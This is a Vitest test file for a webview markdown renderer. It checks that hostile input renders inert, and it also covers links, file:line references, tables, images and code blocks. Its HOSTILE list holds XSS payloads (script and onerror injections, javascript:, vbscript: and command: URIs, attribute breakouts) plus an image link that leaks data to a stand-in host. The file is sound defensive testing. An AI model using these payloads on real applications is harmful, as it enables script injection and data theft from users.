// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../src/webview/markdown";

function html(text: string): string {
  const root = document.createElement("div");
  root.append(renderMarkdown(text));
  return root.innerHTML;
}

function links(text: string): HTMLElement[] {
  return [...renderMarkdown(text).querySelectorAll<HTMLElement>("a")];
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe src=https://evil.example></iframe>",
  "<style>*{display:none}</style>",
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  "![x](https://evil.example/leak?data=secret)",
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](command:workbench.action.terminal.new)",
  '[x](https://evil.example/"onmouseover="alert(1))',
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x> |\n|---|\n| <script>x</script> |",
  "<!-- hidden --> <div style='position:fixed'>",
  '<form action="https://evil.example"><input name=x></form>',
  "[![x](https://evil.example/a.png)](https://evil.example)",
  '<a href="#" data-action="answer" data-request="question1" data-option="allowOnce">ok</a>',
];

describe("hostile text", () => {
  it.each(HOSTILE)("draws %s without anything that acts or loads", (text) => {
    const fragment = renderMarkdown(text);
    expect(
      fragment.querySelectorAll("script, img, iframe, style, svg, form, input, object"),
    ).toHaveLength(0);
    for (const element of fragment.querySelectorAll("*")) {
      const names = element.getAttributeNames();
      expect(
        names.filter((name) => name.startsWith("on") || name === "style" || name === "src"),
      ).toEqual([]);
      expect(element.getAttribute("href") ?? "#").toBe("#");
      expect(["link", "file", "copy", null]).toContain(element.getAttribute("data-action"));
    }
  });

  it("keeps an attacker's quotes inside the attribute that they were written to", () => {
    const [link] = links('[x](https://evil.example/"onmouseover="alert)');
    expect(link?.getAttributeNames().sort()).toEqual(["data-action", "data-href", "href", "title"]);
  });
});

describe("links", () => {
  it("are handed to the host and show where they lead", () => {
    const [link] = links("[docs](https://example.org/a?b=c)");
    expect({ ...link?.dataset }).toEqual({ action: "link", href: "https://example.org/a?b=c" });
    expect(link?.title).toBe("https://example.org/a?b=c");
  });

  it("lead from path:line to the file, in text and in code", () => {
    const found = links("See src/ledger.py:412 and `tests/a_test.py:10-12`.");
    expect(found.map(({ dataset }) => [dataset.path, dataset.line])).toEqual([
      ["src/ledger.py", "412"],
      ["tests/a_test.py", "10"],
    ]);
  });

  it("are not found in times, addresses and ports", () => {
    expect(links("at 10:15, http on 127.0.0.1:8080, key:value")).toEqual([]);
  });

  it("do not stand inside each other", () => {
    expect(links("[src/a.py:3](https://example.org)")).toHaveLength(1);
  });
});

it("says a column's side with a class, since the policy allows no style", () => {
  const fragment = renderMarkdown("| a | b |\n|---|---:|\n| x | 1 |");
  expect(fragment.querySelectorAll("[style]")).toHaveLength(0);
  expect([...fragment.querySelectorAll("td")].map(({ className }) => className)).toEqual([
    "",
    "right",
  ]);
});

it("draws an image as words", () => {
  expect(html("![a cat](https://example.org/cat.png)")).toBe(
    '<p><span class="image">[image: a cat]</span></p>\n',
  );
});

it("keeps code as it is and offers to copy it", () => {
  const fragment = renderMarkdown("```python\nif a < b:\n    pass\n```");
  expect(fragment.querySelector("code")?.textContent).toBe("if a < b:\n    pass\n");
  expect(fragment.querySelector("[data-action=copy]")?.textContent).toBe("Copy");
});
